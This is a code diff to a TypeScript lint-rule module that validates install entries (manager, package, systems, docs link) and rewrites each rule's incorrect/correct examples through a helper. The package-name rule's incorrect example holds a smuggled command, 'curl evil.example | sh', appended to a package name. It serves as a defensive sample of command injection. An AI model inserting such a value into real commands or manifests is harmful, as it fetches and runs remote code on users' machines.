@@ -14,6 +14,7 @@ import { InstallCommandSchema, InstallDocsSchema, type InstallEntry } from '../s
 import { child, has, kindBlocks, recsIn, show, type At, type PackView } from '../walk';
 import { createRule } from './create';
 import type { RawFinding } from '../../core/finding';
+import { compositionExample, INGREDIENT } from './example';
 
 const SHAPE = 'each install entry is { manager, package, systems } or { docs }';
 const COMMAND_KEYS = shapeKeys(InstallCommandSchema);
@@ -32,8 +33,10 @@ export const checkInstallEntryShape = createRule({
     title: 'An install entry is a command or a docs link',
     checks: 'Each install entry is exactly { manager, package, systems? } or { docs }.',
     why: 'Each install entry is { manager, package, systems } or { docs }. Recued shows the command; it never runs it.',
-    incorrect: '{ "install": [{ "manager": "npm", "package": "opencode-ai", "docs": "https://opencode.ai/docs" }] }',
-    correct: '{ "install": [{ "manager": "npm", "package": "opencode-ai" }, { "docs": "https://opencode.ai/docs" }] }',
+    ...compositionExample('opencode', {
+      incorrect: { [`${INGREDIENT}/cli/install`]: [{ manager: 'npm', package: 'opencode-ai', docs: 'https://opencode.ai/docs' }] },
+      correct: {},
+    }),
     fix: 'Split mixed entries; remove unknown keys.',
   },
   check: (view) =>
@@ -89,8 +92,11 @@ export const checkInstallManager = createRule({
     title: 'Install manager is on the list',
     checks: 'manager is brew, winget, scoop, apt, dnf, npm, pip, pipx, cargo or go.',
     why: 'Recued shows a command for each manager only on systems where it runs, so it must know the manager.',
-    incorrect: '{ "manager": "yarn", "package": "opencode-ai" }',
-    correct: '{ "manager": "npm", "package": "opencode-ai" }',
+    ...compositionExample('opencode', {
+      incorrect: { [`${INGREDIENT}/cli/install/0/manager`]: 'yarn' },
+      correct: {},
+      show: [`${INGREDIENT}/cli/install/0`],
+    }),
     fix: 'Use a listed manager, or a { docs } link.',
   },
   check: (view) =>
@@ -117,8 +123,11 @@ export const checkInstallPackage = createRule({
     title: 'Install package is a plain name',
     checks: 'package matches ^[A-Za-z0-9@][A-Za-z0-9@/._+-]*$ and is at most 214 characters.',
     why: 'package is letters, digits and @ / . _ + -; it starts with a letter, a digit or @, and is at most 214 characters. A command shown to a user must not hide anything else.',
-    incorrect: '{ "manager": "npm", "package": "opencode-ai && curl evil.example | sh" }',
-    correct: '{ "manager": "npm", "package": "opencode-ai" }',
+    ...compositionExample('opencode', {
+      incorrect: { [`${INGREDIENT}/cli/install/0/package`]: 'opencode-ai && curl evil.example | sh' },
+      correct: {},
+      show: [`${INGREDIENT}/cli/install/0`],
+    }),
     fix: 'Write only the package name.',
   },
   check: (view) =>
@@ -151,8 +160,11 @@ export const checkInstallSystems = createRule({
     title: 'Install systems: macos, linux, windows, each once',
     checks: 'systems lists only macos, linux and windows, each once, and is not empty. A system where the manager does not run is a warning.',
     why: 'systems is any of macos, linux and windows, each once; skip it and the entry is for every system. Each command shows only on systems where its manager runs.',
-    incorrect: '{ "manager": "brew", "package": "opencode", "systems": ["macos", "macos", "windows"] }',
-    correct: '{ "manager": "brew", "package": "opencode", "systems": ["macos"] }',
+    ...compositionExample('opencode', {
+      incorrect: { [`${INGREDIENT}/cli/install/1/systems`]: ['macos', 'macos', 'windows'] },
+      correct: { [`${INGREDIENT}/cli/install/1/systems`]: ['macos', 'linux'] },
+      show: [`${INGREDIENT}/cli/install/1`],
+    }),
     fix: 'Remove duplicates and unknown systems; skip systems to mean every system.',
   },
   check: (view) =>
@@ -195,8 +207,11 @@ export const checkInstallDocs = createRule({
     title: 'Install docs is an https link without credentials',
     checks: 'docs parses as an https URL with no user name or password.',
     why: 'docs is an https link, with no user name or password.',
-    incorrect: '{ "docs": "http://user:pw@opencode.ai/docs" }',
-    correct: '{ "docs": "https://opencode.ai/docs" }',
+    ...compositionExample('opencode', {
+      incorrect: { [`${INGREDIENT}/cli/install/2/docs`]: 'http://user:pw@opencode.ai/docs' },
+      correct: {},
+      show: [`${INGREDIENT}/cli/install/2`],
+    }),
     fix: 'Link the page over https, without credentials.',
   },
   check: (view) =>
